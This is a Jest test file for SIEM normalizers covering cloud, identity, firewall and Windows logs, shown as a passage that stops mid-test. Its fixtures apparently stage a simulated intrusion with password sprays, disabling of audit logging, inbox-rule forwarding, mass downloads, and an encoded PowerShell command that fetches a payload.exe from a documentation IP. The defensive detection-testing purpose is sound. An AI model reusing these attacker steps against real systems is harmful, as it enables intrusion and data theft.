import { readFileSync } from "node:fs";
import { join } from "node:path";
import { textProblem } from "../../../../../common/src/validation";
import {
  CONNECTOR_KINDS,
  OCSF_CLASS,
  type ConnectorKind,
  type NormalizedEvent,
  type NormalizeRejection,
} from "../../events/event.model";
import {
  NORMALIZERS,
  normalize,
  normalizeIp,
  normalizeNdjson,
  normalizePort,
  parseCef,
  parseCefExtension,
  parseCefTime,
  parseNdjson,
  toIsoTime,
} from ".";
import { observablesOf } from "../../intel/indicator-index";
import { sysmonHashes } from "./windows-sysmon";

const FIXTURES = join(__dirname, "../../../../../../test/fixtures/siem");

function fixture(kind: ConnectorKind): unknown[] {
  const parsed = parseNdjson(readFileSync(join(FIXTURES, `${kind}.ndjson`), "utf8"));
  return parsed.map((entry) => {
    if ("error" in entry) throw new Error(`${kind}.ndjson line ${entry.line}: ${entry.error}`);
    return entry.value;
  });
}

function ok(result: NormalizedEvent | NormalizeRejection): NormalizedEvent {
  if ("reason" in result) throw new Error(`unexpected rejection: ${result.reason}`);
  return result;
}

function rejected(result: NormalizedEvent | NormalizeRejection): string {
  if (!("reason" in result)) throw new Error(`expected a rejection, got event ${result.source_event_id}`);
  return result.reason;
}

const records = Object.fromEntries(CONNECTOR_KINDS.map((kind) => [kind, fixture(kind)])) as Record<
  ConnectorKind,
  unknown[]
>;
const events = Object.fromEntries(
  CONNECTOR_KINDS.map((kind) => [kind, records[kind].map((record) => ok(NORMALIZERS[kind](record)))]),
) as Record<ConnectorKind, NormalizedEvent[]>;

const minutes = (a: string, b: string) => Math.abs(Date.parse(a) - Date.parse(b)) / 60_000;

describe("fixtures", () => {
  it.each(CONNECTOR_KINDS)("%s: every line normalises into a well-formed event", (kind) => {
    const raw = records[kind];
    const list = events[kind];
    expect(list.length).toBeGreaterThanOrEqual(20);
    expect(list.length).toBeLessThanOrEqual(60);
    const ids = new Set(list.map((e) => e.source_event_id));
    expect(ids.size).toBe(list.length);
    const classes = new Set<number>(Object.values(OCSF_CLASS));
    list.forEach((event, i) => {
      expect(event.time).toMatch(/^2026-11-20T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      expect(classes.has(event.class_uid)).toBe(true);
      expect(event.severity_id).toBeGreaterThanOrEqual(0);
      expect(event.severity_id).toBeLessThanOrEqual(6);
      expect(["Success", "Failure", "Unknown"]).toContain(event.status);
      expect(event.raw).toBe(raw[i]);
      for (const port of [event.src_port, event.dst_port]) {
        if (port !== null) expect(Number.isInteger(port) && port >= 0 && port <= 65535).toBe(true);
      }
      for (const ip of [event.src_ip, event.dst_ip]) if (ip !== null) expect(normalizeIp(ip)).toBe(ip);
      expect(() => JSON.stringify(event)).not.toThrow();
    });
  });

  it("is deterministic", () => {
    for (const kind of CONNECTOR_KINDS) {
      const again = fixture(kind).map((record) => ok(NORMALIZERS[kind](record)));
      expect(again.map((e) => ({ ...e, raw: null }))).toEqual(events[kind].map((e) => ({ ...e, raw: null })));
    }
  });
});

describe("ENTRA_SIGNIN", () => {
  const list = events.ENTRA_SIGNIN;

  it("maps a failed sign-in", () => {
    const spray = list.filter((e) => e.src_ip === "203.0.113.77" && e.attributes.error_code === 50126);
    expect(spray.length).toBeGreaterThanOrEqual(12);
    expect(new Set(spray.map((e) => e.actor_user))).toEqual(
      new Set(["lee.gu@contoso.com", "nestor.wilke@contoso.com"]),
    );
    expect(minutes(spray[0].time, spray[spray.length - 1].time)).toBeLessThanOrEqual(5);
    expect(spray[0]).toMatchObject({
      class_uid: 3002,
      activity_id: 1,
      status: "Failure",
      src_country: "NL",
      operation: "SignIn",
      attributes: {
        mfa: false,
        app: "Azure Active Directory PowerShell",
        client_app: "Mobile Apps and Desktop clients",
        error_code: 50126,
        failure_reason: "Error validating credentials due to invalid username or password.",
        user_agent: "python-requests/2.31.0",
        risk_level: "none",
      },
    });
  });

  it("has the spray's success and the impossible travel", () => {
    const success = list.find((e) => e.src_ip === "203.0.113.77" && e.status === "Success");
    expect(success).toMatchObject({
      actor_user: "lee.gu@contoso.com",
      time: "2026-11-20T09:04:41.000Z",
      severity_id: 3,
    });
    const grady = list.filter((e) => e.actor_user === "grady.archie@contoso.com" && e.status === "Success");
    expect(grady.map((e) => [e.src_country, e.src_ip])).toEqual([
      ["DE", "203.0.113.10"],
      ["BR", "2001:db8:5b1:20::17"],
    ]);
    expect(minutes(grady[0].time, grady[1].time)).toBeLessThan(40);
    expect(grady[0].attributes.mfa).toBe(true);
  });

  it("accepts the diagnostic-settings export row", () => {
    const [first] = fixture("ENTRA_SIGNIN") as Array<Record<string, unknown>>;
    const row = {
      time: "2026-11-20T02:00:09Z",
      category: "SignInLogs",
      operationName: "Sign-in activity",
      properties: first,
    };
    expect(ok(normalize("ENTRA_SIGNIN", row))).toMatchObject({
      source_event_id: first.id,
      actor_user: "svc-backup@contoso.com",
    });
  });
});

describe("AZURE_ACTIVITY", () => {
  const list = events.AZURE_ACTIVITY;

  it("maps the Owner role assignment", () => {
    const ra = list.find(
      (e) => e.operation === "Microsoft.Authorization/roleAssignments/write" && e.status === "Success",
    );
    expect(ra).toMatchObject({
      class_uid: 6003,
      activity_id: 1,
      severity_id: 1,
      actor_user: "lee.gu@contoso.com",
      src_ip: "203.0.113.77",
      attributes: {
        category: "Administrative",
        role_assignment: {
          role_name: "Owner",
          principal_id: "cecaf798-9c0d-4956-811d-33c35603f2ab",
          scope: "/subscriptions/6c1f3b2a-9d4e-4f7a-8b25-3e9d0c7a1f42",
        },
      },
    });
    expect(ra?.resource_id).toMatch(/^\/subscriptions\/6c1f3b2a-.*\/roleAssignments\//);
  });

  it("maps the NSG rule, the diagnostic-settings deletes, the VM starts and the failures", () => {
    const rule = list.find((e) => e.operation?.endsWith("securityRules/write") && e.attributes.security_rule);
    expect(rule?.attributes.security_rule).toMatchObject({
      name: "AllowRdpAny",
      access: "Allow",
      direction: "Inbound",
      source_address_prefixes: ["*"],
      destination_port_ranges: ["3389"],
      open_to_internet: true,
    });
    const deletes = list.filter((e) => e.operation === "Microsoft.Insights/diagnosticSettings/delete");
    expect(deletes).toHaveLength(2);
    expect(deletes.every((e) => e.activity_id === 4 && e.status === "Success")).toBe(true);
    const starts = list.filter(
      (e) => e.operation === "Microsoft.Compute/virtualMachines/start/action" && e.status === "Success",
    );
    expect(starts.map((e) => e.device)).toEqual([
      "vm-dev-01",
      "vm-build-agent-01",
      "vm-pay-prod-04",
      "vm-dev-02",
    ]);
    expect(starts[0]).toMatchObject({
      activity_id: 99,
      actor_user: "megan.bowen@contoso.com",
      src_ip: "203.0.113.10",
    });
    const failed = list.filter((e) => e.status === "Failure");
    expect(failed.map((e) => [e.severity_id, e.attributes.category])).toEqual([
      [4, "Policy"],
      [4, "Administrative"],
    ]);
    expect(
      list.filter((e) => e.attributes.status_detail === "Started").every((e) => e.status === "Unknown"),
    ).toBe(true);
  });

  it("accepts the diagnostic-export form", () => {
    const event = ok(
      normalize("AZURE_ACTIVITY", {
        time: "2026-11-20T09:12:20.1234567Z",
        resourceId: "/SUBSCRIPTIONS/X/PROVIDERS/MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/A",
        operationName: "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE",
        category: "Administrative",
        resultType: "Success",
        callerIpAddress: "203.0.113.77",
        level: "Warning",
        properties: { eventDataId: "0f4c…", eventCategory: "Administrative" },
        identity: {
          claims: { "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "lee.gu@contoso.com" },
        },
      }),
    );
    expect(event).toMatchObject({
      time: "2026-11-20T09:12:20.123Z",
      activity_id: 4,
      status: "Success",
      severity_id: 3,
      actor_user: "lee.gu@contoso.com",
      src_ip: "203.0.113.77",
    });
  });
});

describe("AZURE_ACTIVITY diagnostic-settings export (no event id)", () => {
  // The storage account / event hub form: no eventDataId, `level: "Information"`, `resultType`.
  const exported = (extra: Record<string, unknown> = {}) => ({
    time: "2026-11-20T10:04:31.5218842Z",
    resourceId:
      "/SUBSCRIPTIONS/6C1F3B2A-9D4E-4F7A-8B25-3E9D0C7A1F42/RESOURCEGROUPS/RG-WEB/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM-WEB-02",
    operationName: "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
    category: "Administrative",
    resultType: "Success",
    resultSignature: "Succeeded.Created",
    resultDescription: "",
    durationMs: 4120,
    callerIpAddress: "203.0.113.41",
    correlationId: "5b0e8c61-0d0f-4c6e-9a57-2f3c1d9e7a10",
    identity: {
      authorization: {
        scope:
          "/subscriptions/6c1f3b2a-9d4e-4f7a-8b25-3e9d0c7a1f42/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/vm-web-02",
        action: "Microsoft.Compute/virtualMachines/write",
      },
      claims: {
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "lee.gu@contoso.com",
        ipaddr: "203.0.113.41",
      },
    },
    level: "Information",
    location: "global",
    properties: { statusCode: "Created", serviceRequestId: "0c1d2e3f-aaaa-4bbb-8ccc-1d2e3f405162" },
    ...extra,
  });

  it("is stored under a digest of the record, the same every time it is sent", () => {
    const first = ok(normalize("AZURE_ACTIVITY", exported()));
    const again = ok(normalize("AZURE_ACTIVITY", exported()));
    expect(first.source_event_id).toMatch(/^[0-9a-f]{64}$/);
    expect(again.source_event_id).toBe(first.source_event_id);
    const started = ok(
      normalize(
        "AZURE_ACTIVITY",
        exported({ time: "2026-11-20T10:04:27.4011937Z", resultType: "Start", resultSignature: "Started." }),
      ),
    );
    expect(started.source_event_id).not.toBe(first.source_event_id);
    expect(first).toMatchObject({
      time: "2026-11-20T10:04:31.521Z",
      activity_id: 1,
      status: "Success",
      actor_user: "lee.gu@contoso.com",
      src_ip: "203.0.113.41",
      device: "VM-WEB-02",
    });
    expect(started.status).toBe("Unknown");
  });

  it('reads `level: "Information"` as Informational', () => {
    expect(ok(normalize("AZURE_ACTIVITY", exported())).severity_id).toBe(1);
  });

  it("names a service principal by its object id when there is no UPN", () => {
    const event = ok(
      normalize(
        "AZURE_ACTIVITY",
        exported({
          identity: {
            claims: {
              appid: "5d2e8f1a-7b3c-4e9d-a1f6-0c8b2d4e6f70",
              "http://schemas.microsoft.com/identity/claims/objectidentifier":
                "c4afa01b-c7e2-4dd2-87ed-f27a6eaca94a",
            },
          },
        }),
      ),
    );
    expect(event.actor_user).toBe("c4afa01b-c7e2-4dd2-87ed-f27a6eaca94a");
  });
});

describe("OCSF events without metadata.uid", () => {
  const flow = (bytes: number) => ({
    class_uid: 4001,
    activity_id: 6,
    time: 1795165260000,
    src_endpoint: { ip: "10.1.2.7", port: 51544 },
    dst_endpoint: { ip: "198.51.100.23", port: 443 },
    traffic: { bytes },
    metadata: { version: "1.1.0", product: { name: "VPC Flow Logs", vendor_name: "AWS" } },
  });

  it("are identified by a digest of the event, the same every time it is sent", () => {
    const a = ok(normalize("OCSF", flow(5120)));
    expect(a.source_event_id).toMatch(/^[0-9a-f]{64}$/);
    expect(ok(normalize("OCSF", flow(5120))).source_event_id).toBe(a.source_event_id);
    expect(ok(normalize("OCSF", flow(4096))).source_event_id).not.toBe(a.source_event_id);
    expect(a).toMatchObject({ src_ip: "10.1.2.7", dst_port: 443, time: "2026-11-20T09:01:00.000Z" });
  });
});

describe("AWS_CLOUDTRAIL", () => {
  const list = events.AWS_CLOUDTRAIL;

  it("maps console logins", () => {
    const logins = list.filter((e) => e.operation === "ConsoleLogin");
    expect(logins.every((e) => e.class_uid === 3002 && e.activity_id === 1)).toBe(true);
    const root = logins.find((e) => e.attributes.root === true);
    expect(root).toMatchObject({
      actor_user: "arn:aws:iam::491827365014:root",
      status: "Success",
      src_ip: "203.0.113.77",
      time: "2026-11-20T09:31:02.000Z",
      attributes: { mfa: false, user_identity_type: "Root" },
    });
    const lee = logins.filter((e) => e.actor_user === "arn:aws:iam::491827365014:user/lee.gu");
    expect(lee.map((e) => [e.status, e.attributes.mfa])).toEqual([
      ["Failure", false],
      ["Success", false],
    ]);
    expect(lee[0].attributes.failure_reason).toBe("Failed authentication");
    expect(logins.find((e) => e.actor_user?.endsWith("user/megan.bowen"))?.attributes.mfa).toBe(true);
  });

  it("maps API calls with operation, status and resource", () => {
    const by = (name: string) => list.filter((e) => e.attributes.event_name === name);
    expect(by("StopLogging")[0]).toMatchObject({
      class_uid: 6003,
      activity_id: 3,
      operation: "cloudtrail.amazonaws.com:StopLogging",
      resource_id: "arn:aws:cloudtrail:us-east-1:491827365014:trail/contoso-management-trail",
      attributes: { root: true, mfa: false },
    });
    expect(by("AuthorizeSecurityGroupIngress")[0]).toMatchObject({
      activity_id: 1,
      resource_id: "arn:aws:ec2:us-east-1:491827365014:security-group/sg-0bf7118f886a3fe99",
      actor_user: "arn:aws:iam::491827365014:user/lee.gu",
    });
    expect(by("CreateAccessKey")[0].resource_id).toBe("arn:aws:iam::491827365014:user/terraform-automation");
    expect(by("StopInstances")[0].resource_id).toBe(
      "arn:aws:ec2:eu-west-1:491827365014:instance/i-0d7a7534ae1a1e580",
    );
    expect(by("DeleteTrail")[0]).toMatchObject({
      status: "Failure",
      activity_id: 4,
      severity_id: 2,
      resource_id: "arn:aws:cloudtrail:us-east-1:491827365014:trail/contoso-management-trail",
      attributes: { error_code: "AccessDenied" },
    });
    const polls = by("DescribeInstances").filter((e) => e.device === "i-0152db581c86ed9eb");
    expect(polls.length).toBeGreaterThanOrEqual(3);
    expect(polls[0]).toMatchObject({ activity_id: 2, src_ip: "192.0.2.12", status: "Success" });
    const kms = by("GenerateDataKey")[0];
    expect(kms).toMatchObject({
      src_ip: null,
      actor_user: "cloudtrail.amazonaws.com",
      attributes: { source_host: "cloudtrail.amazonaws.com" },
    });
  });

  it("rejects a whole log file but parseNdjson splits it", () => {
    const [a, b] = fixture("AWS_CLOUDTRAIL");
    expect(rejected(normalize("AWS_CLOUDTRAIL", { Records: [a, b] }))).toMatch(/log file/);
    const lines = parseNdjson(`${JSON.stringify({ Records: [a, b] })}\n`);
    expect(lines).toEqual([
      { line: 1, value: a },
      { line: 1, value: b },
    ]);
  });
});

describe("SYSLOG_CEF", () => {
  const list = events.SYSLOG_CEF;
  const network = list.filter((e) => e.class_uid === OCSF_CLASS.NETWORK_ACTIVITY);
  const http = list.filter((e) => e.class_uid === OCSF_CLASS.HTTP_ACTIVITY);

  it("has the port scan of vm-jump-01", () => {
    const scan = network.filter(
      (e) => e.src_ip === "192.0.2.45" && e.dst_ip === "198.51.100.14" && e.time < "2026-11-20T08:56:00",
    );
    expect(new Set(scan.map((e) => e.dst_port)).size).toBeGreaterThanOrEqual(25);
    expect(minutes(scan[0].time, scan[scan.length - 1].time)).toBeLessThanOrEqual(1);
    expect(scan.filter((e) => e.attributes.action === "Denied").length).toBeGreaterThan(scan.length / 2);
    expect(scan[0]).toMatchObject({
      activity_id: 5,
      status: "Failure",
      severity_id: 2,
      device: "vm-jump-01",
      src_port: 40112,
      dst_port: 21,
      operation: "deny",
      source_event_id: "7319004101",
      attributes: {
        action: "Denied",
        protocol: "tcp",
        reporter: { hostname: "fw-edge-01", syslog_format: "rfc3164" },
        metadata: { product: { vendor_name: "Palo Alto Networks", name: "PAN-OS" } },
        custom: { Rule: "deny-inbound-default", SessionID: "884201" },
      },
    });
  });

  it("has the deny spike and the inbound RDP/SSH", () => {
    const denies = network.filter(
      (e) =>
        e.attributes.action === "Denied" && e.time >= "2026-11-20T08:55:00" && e.time < "2026-11-20T09:00:00",
    );
    expect(denies.length).toBeGreaterThanOrEqual(40);
    expect(new Set(denies.map((e) => e.src_ip)).size).toBeGreaterThanOrEqual(4);
    const inbound = network.filter(
      (e) => e.attributes.action === "Allowed" && (e.dst_port === 3389 || e.dst_port === 22),
    );
    expect(inbound.map((e) => `${e.src_ip}>${e.dst_ip}:${e.dst_port}`)).toEqual(
      expect.arrayContaining([
        "192.0.2.45>198.51.100.14:3389",
        "203.0.113.77>198.51.100.17:3389",
        "192.0.2.45>198.51.100.16:22",
        "203.0.113.77>192.0.2.12:22",
      ]),
    );
    const fortinet = network.find(
      (e) => e.dst_ip === "198.51.100.17" && e.dst_port === 3389 && e.attributes.action === "Allowed",
    );
    expect(fortinet).toMatchObject({
      time: "2026-11-20T09:15:20.000Z",
      activity_id: 1,
      status: "Success",
      attributes: { protocol: "tcp", reporter: { syslog_format: "rfc5424" } },
    });
    const unescaped = network.find((e) => e.message?.includes("policy=0"));
    expect(unescaped?.message).toBe("Denied by forward policy check (policy=0 implicit deny)");
    expect(network.some((e) => /^[0-9a-f]{64}$/.test(e.source_event_id))).toBe(true);
  });

  it("maps proxy requests with url and domain", () => {
    const bad = http.filter((e) => e.attributes.domain === "malicious-updates.example");
    expect(bad).toHaveLength(2);
    expect(bad[0]).toMatchObject({
      activity_id: 3,
      src_ip: "10.2.1.5",
      dst_ip: "198.51.100.23",
      device: "vm-dev-02",
      actor_user: "lee.gu@contoso.com",
      attributes: {
        url: "https://malicious-updates.example/api/v2/check?id=7f3a9c&os=win",
        action: "Allowed",
      },
    });
    expect(bad[1]).toMatchObject({ activity_id: 6, status: "Failure", severity_id: 4 });
    const payload = http.find((e) => e.attributes.url === "http://198.51.100.23/payload.exe");
    expect(payload).toMatchObject({ dst_ip: "198.51.100.23", time: "2026-11-20T09:16:09.000Z" });
    expect(payload?.attributes.domain).toBeUndefined();
  });
});

describe("M365_AUDIT", () => {
  const list = events.M365_AUDIT;

  it("has the mass download", () => {
    const downloads = list.filter(
      (e) => e.operation === "FileDownloaded" && e.actor_user === "grady.archie@contoso.com",
    );
    expect(downloads.length).toBeGreaterThanOrEqual(30);
    expect(minutes(downloads[0].time, downloads[downloads.length - 1].time)).toBeLessThanOrEqual(10);
    expect(downloads[0]).toMatchObject({
      class_uid: 6001,
      activity_id: 7,
      status: "Success",
      time: "2026-11-20T10:40:05.000Z",
      src_ip: "2001:db8:5b1:20::17",
      src_port: null,
      attributes: {
        workload: "SharePoint",
        file: {
          name: "customers_eu_2026Q3.csv",
          path: "Shared Documents/Customer Exports/customers_eu_2026Q3.csv",
        },
        url: "https://contoso.sharepoint.com/sites/DataEngineering/Shared Documents/Customer Exports/customers_eu_2026Q3.csv",
        domain: "contoso.sharepoint.com",
        site_url: "https://contoso.sharepoint.com/sites/DataEngineering/",
      },
    });
  });

  it("maps the forwarding inbox rule and mailbox changes", () => {
    const rule = list.find((e) => e.operation === "New-InboxRule");
    expect(rule).toMatchObject({
      class_uid: 6003,
      activity_id: 1,
      status: "Success",
      src_ip: "203.0.113.77",
      src_port: 50331,
      actor_user: "lee.gu@contoso.com",
      attributes: { forward_to: "lee.gu.archive@mailbox.example", parameters: { Name: "Archive sync" } },
    });
    expect(list.find((e) => e.operation === "Set-Mailbox")).toMatchObject({
      activity_id: 3,
      attributes: { forward_to: "lee.gu.archive@mailbox.example" },
    });
    const v6 = list.find(
      (e) => e.operation === "MailItemsAccessed" && e.actor_user === "adele.vance@contoso.com",
    );
    expect(v6).toMatchObject({ src_ip: "2001:db8:c0:20::41", src_port: 55210, activity_id: 2 });
  });

  it("maps logins", () => {
    const logins = list.filter((e) => e.class_uid === 3002);
    expect(logins.filter((e) => e.status === "Failure").map((e) => e.attributes.failure_reason)).toEqual([
      "InvalidUserNameOrPassword",
      "InvalidUserNameOrPassword",
    ]);
    expect(logins.find((e) => e.src_ip === "2001:db8:5b1:20::17")?.actor_user).toBe(
      "grady.archie@contoso.com",
    );
  });
});

describe("OCSF", () => {
  const list = events.OCSF;

  it("keeps process activity with the encoded PowerShell", () => {
    const ps = list.find(
      (e) =>
        e.class_uid === 1007 &&
        String((e.attributes.process as { cmd_line?: string }).cmd_line).includes("-Enc "),
    );
    expect(ps).toMatchObject({
      activity_id: 1,
      severity_id: 4,
      device: "vm-dev-02",
      resource_id:
        "/subscriptions/6c1f3b2a-9d4e-4f7a-8b25-3e9d0c7a1f42/resourceGroups/rg-dev-eus/providers/Microsoft.Compute/virtualMachines/vm-dev-02",
      attributes: { process: { name: "powershell.exe", file: { hashes: [{ algorithm: "SHA-256" }] } } },
    });
    const encoded =
      /-Enc (\S+)/.exec(String((ps?.attributes.process as { cmd_line: string }).cmd_line))?.[1] ?? "";
    expect(Buffer.from(encoded, "base64").toString("utf16le")).toContain("http://198.51.100.23/payload.exe");
  });

  it("maps DNS, network and authentication events", () => {
    const dns = list.filter(
      (e) => e.class_uid === 4003 && e.attributes.domain === "malicious-updates.example",
    );
    expect(dns.length).toBe(2);
    expect(dns[0]).toMatchObject({
      activity_id: 1,
      src_ip: "10.2.1.5",
      dst_port: 53,
      attributes: { query: { hostname: "malicious-updates.example" } },
    });
    const c2 = list.filter((e) => e.class_uid === 4001 && e.dst_ip === "198.51.100.23");
    expect(c2.map((e) => e.dst_port)).toEqual([80, 443]);
    const logon = list.find(
      (e) => e.class_uid === 3002 && e.status === "Success" && e.device === "vm-dev-02",
    );
    expect(logon).toMatchObject({
      actor_user: "CONTOSO\\lee.gu",
      src_ip: "203.0.113.77",
      src_country: "NL",
      attributes: { mfa: false },
    });
    const failures = list.filter((e) => e.class_uid === 3002 && e.status === "Failure");
    expect(failures).toHaveLength(5);
    expect(failures[0]).toMatchObject({
      actor_user: "administrator",
      src_ip: "192.0.2.45",
      device: "vm-jump-01",
    });
  });

  it("derives activity_id from type_uid and accepts ISO times and far-future times", () => {
    const event = ok(
      normalize("OCSF", {
        class_uid: 4002,
        type_uid: 400203,
        time: "2999-01-01T00:00:00Z",
        metadata: { uid: "x-1" },
        http_request: {
          url: { url_string: "https://a.example/x", hostname: "a.example" },
          user_agent: "curl/8",
        },
      }),
    );
    expect(event).toMatchObject({
      activity_id: 3,
      time: "2999-01-01T00:00:00.000Z",
      attributes: { url: "https://a.example/x", domain: "a.example", user_agent: "curl/8" },
    });
  });
});

describe("OKTA_SYSTEM_LOG", () => {
  const list = events.OKTA_SYSTEM_LOG;

  it("maps sign-ins: the spray from one address, the MFA step, the sign-out", () => {
    const spray = list.filter(
      (e) => e.src_ip === "198.51.100.61" && e.status === "Failure" && e.class_uid === 3002,
    );
    expect(spray.filter((e) => e.operation === "user.session.start")).toHaveLength(12);
    expect(minutes(spray[0].time, spray[11].time)).toBeLessThanOrEqual(5);
    expect(spray[0]).toMatchObject({
      class_uid: 3002,
      activity_id: 1,
      severity_id: 2,
      actor_user: "diego.siciliani@contoso.com",
      src_country: "NL",
      operation: "user.session.start",
      message: "Sign-in failed for diego.siciliani@contoso.com (User login to Okta): INVALID_CREDENTIALS",
      attributes: {
        outcome: { result: "FAILURE", reason: "INVALID_CREDENTIALS" },
        failure_reason: "INVALID_CREDENTIALS",
        user_agent: "python-requests/2.32.3",
        credential_type: "PASSWORD",
        location: { city: "Amsterdam", country: "NL", country_name: "Netherlands" },
        actor: { type: "User", alternate_id: "diego.siciliani@contoso.com", name: "Diego Siciliani" },
      },
    });
    const mfa = list.find(
      (e) => e.operation === "user.authentication.auth_via_mfa" && e.status === "Success",
    );
    expect(mfa).toMatchObject({ class_uid: 3002, activity_id: 1, attributes: { mfa: true } });
    expect(list.find((e) => e.operation === "user.session.end")).toMatchObject({
      activity_id: 2,
      status: "Success",
    });
    const adele = list.filter(
      (e) => e.actor_user === "adele.vance@contoso.com" && e.operation === "user.session.start",
    );
    expect(adele.map((e) => [e.src_country, e.src_ip])).toEqual([
      ["US", "198.51.100.140"],
      ["BR", "2001:db8:5b1:20::17"],
    ]);
  });

  it("maps MFA factor, privilege, group, lifecycle and policy changes", () => {
    const deactivated = list.filter((e) => e.operation === "user.mfa.factor.deactivate");
    expect(deactivated.map((e) => [e.class_uid, e.activity_id, e.status, e.attributes.target_user])).toEqual([
      [3001, 11, "Success", "diego.siciliani@contoso.com"],
      [3001, 11, "Failure", "nestor.wilke@contoso.com"],
    ]);
    expect(deactivated[0]).toMatchObject({ actor_user: "joni.sherman@contoso.com", src_ip: "198.51.100.61" });
    expect(list.find((e) => e.operation === "user.account.privilege.grant")).toMatchObject({
      class_uid: 3005,
      activity_id: 1,
      status: "Success",
      attributes: { privileges: "Super administrator", target_user: "diego.siciliani@contoso.com" },
    });
    expect(list.find((e) => e.operation === "group.user_membership.add")).toMatchObject({
      class_uid: 3006,
      activity_id: 3,
      attributes: { group: { name: "Finance" }, target_user: "lynne.robbins@contoso.com" },
    });
    expect(list.find((e) => e.operation === "user.lifecycle.create")).toMatchObject({
      class_uid: 3001,
      activity_id: 1,
    });
    expect(list.find((e) => e.operation === "user.account.lock")).toMatchObject({
      class_uid: 3001,
      activity_id: 9,
      severity_id: 3,
    });
    expect(list.find((e) => e.operation === "policy.lifecycle.update")).toMatchObject({
      class_uid: 6003,
      activity_id: 3,
      resource_id: "00p1k9x2wq3Zr8Tn55d7",
      message: "Update policy by joni.sherman@contoso.com",
    });
    expect(list.find((e) => e.operation === "policy.evaluate_sign_on")).toMatchObject({
      class_uid: 6003,
      activity_id: 99,
      status: "Failure",
      attributes: { outcome: { result: "DENY" } },
    });
  });

  it("reads outcomes and countries it is given in other forms", () => {
    const [first] = fixture("OKTA_SYSTEM_LOG") as Array<Record<string, unknown>>;
    const variant = (outcome: unknown, country: unknown) =>
      ok(
        normalize("OKTA_SYSTEM_LOG", {
          ...first,
          outcome,
          client: { ipAddress: "192.0.2.5", geographicalContext: { country } },
        }),
      );
    expect(variant({ result: "CHALLENGE" }, "United States")).toMatchObject({
      status: "Unknown",
      src_country: "US",
    });
    expect(variant({ result: "deny" }, "de")).toMatchObject({ status: "Failure", src_country: "DE" });
    expect(variant(null, "Atlantis")).toMatchObject({ status: "Unknown", src_country: null });
  });
});

describe("GCP_AUDIT", () => {
  const list = events.GCP_AUDIT;
  const by = (method: string) => list.filter((e) => e.operation === method);

  it("maps the service account key, the owner grant and the deleted sink", () => {
    expect(by("google.iam.admin.v1.CreateServiceAccountKey")[0]).toMatchObject({
      class_uid: 6003,
      activity_id: 1,
      status: "Success",
      severity_id: 1,
      actor_user: "lee.gu@contoso.com",
      src_ip: "198.51.100.61",
      resource_id:
        "//iam.googleapis.com/projects/-/serviceAccounts/deploy-bot@contoso-payments-prod.iam.gserviceaccount.com",
      attributes: {
        service_name: "iam.googleapis.com",
        project_id: "contoso-payments-prod",
        log_type: "activity",
        status_code: 0,
        principal_email: "lee.gu@contoso.com",
        request: { private_key_type: 2 },
      },
    });
    expect(by("SetIamPolicy")[0]).toMatchObject({
      activity_id: 3,
      resource_id: "//cloudresourcemanager.googleapis.com/projects/contoso-payments-prod",
      attributes: { added_roles: "roles/owner" },
    });
    expect(by("google.logging.v2.ConfigServiceV2.DeleteSink")[0]).toMatchObject({
      activity_id: 4,
      status: "Success",
    });
  });

  it("takes the status from status.code, reads and system events", () => {
    const denied = by("google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion");
    expect(denied).toHaveLength(3);
    expect(denied[0]).toMatchObject({
      status: "Failure",
      activity_id: 2,
      severity_id: 4,
      attributes: { status_code: 7, log_type: "data_access", authorization: [{ granted: false }] },
    });
    expect(denied[0].message).toContain("failed: PERMISSION_DENIED");
    expect(by("google.iam.admin.v1.DeleteServiceAccountKey")[0]).toMatchObject({
      status: "Failure",
      activity_id: 4,
      attributes: { status_code: 5 },
    });
    const reads = by("storage.objects.get");
    expect(reads).toHaveLength(6);
    expect(reads.every((e) => e.activity_id === 2 && e.status === "Success")).toBe(true);
    const stop = by("v1.compute.instances.stop")[0];
    expect(stop).toMatchObject({ device: "pay-api-2", activity_id: 3 });
    const preempted = by("compute.instances.preempted")[0];
    expect(preempted).toMatchObject({
      actor_user: null,
      src_ip: null,
      attributes: { log_type: "system_event" },
    });
  });

  it("keeps a caller that is not an address", () => {
    const [first] = fixture("GCP_AUDIT") as Array<Record<string, Record<string, unknown>>>;
    const event = ok(
      normalize("GCP_AUDIT", {
        ...first,
        protoPayload: { ...first.protoPayload, requestMetadata: { callerIp: "gce-internal-ip" } },
      }),
    );
    expect(event).toMatchObject({ src_ip: null, attributes: { caller_ip: "gce-internal-ip" } });
  });
});

describe("WINDOWS_SECURITY", () => {
  const list = events.WINDOWS_SECURITY;
  const by = (id: number) => list.filter((e) => e.attributes.event_id === id);

  it("maps failed and successful logons with address, port and logon type", () => {
    const failures = by(4625).filter((e) => e.src_ip === "198.51.100.88");
    expect(failures).toHaveLength(12);
    expect(minutes(failures[0].time, failures[11].time)).toBeLessThanOrEqual(5);
    expect(failures[0]).toMatchObject({
      class_uid: 3002,
      activity_id: 1,
      status: "Failure",
      severity_id: 2,
      actor_user: "administrator",
      src_port: 50210,
      device: "vm-jump-01.corp.contoso.com",
      operation: "4625",
      time: "2026-11-20T08:40:11.886Z",
      attributes: {
        logon_type: 3,
        logon_type_name: "Network",
        auth_package: "NTLM",
        failure_reason: "bad password",
        failure_substatus: "0xc000006a",
      },
    });
    expect(failures[0].source_event_id).toMatch(/^vm-jump-01\.corp\.contoso\.com:\d+$/);
    // Keywords as a mask and as text ("Audit Failure") say the same.
    expect(failures.every((e) => e.status === "Failure")).toBe(true);
    const rdp = by(4624).find((e) => e.src_ip === "198.51.100.88");
    expect(rdp).toMatchObject({
      status: "Success",
      actor_user: "CORP\\svc-sql",
      src_port: 50301,
      attributes: { logon_type: 10, logon_type_name: "RemoteInteractive", workstation: "KALI" },
    });
    // No address ("-") and port 0 are none.
    const service = by(4624).find((e) => e.attributes.logon_type === 5);
    expect(service).toMatchObject({ src_ip: null, src_port: null });
    expect(by(4634)[0]).toMatchObject({ class_uid: 3002, activity_id: 2 });
  });

  it("maps process creation with the command line the encoded-PowerShell rule reads", () => {
    const ps = by(4688).find((e) =>
      String((e.attributes.process as { cmd_line?: string }).cmd_line).includes("-Enc"),
    );
    expect(ps).toMatchObject({
      class_uid: 1007,
      activity_id: 1,
      actor_user: "CORP\\svc-sql",
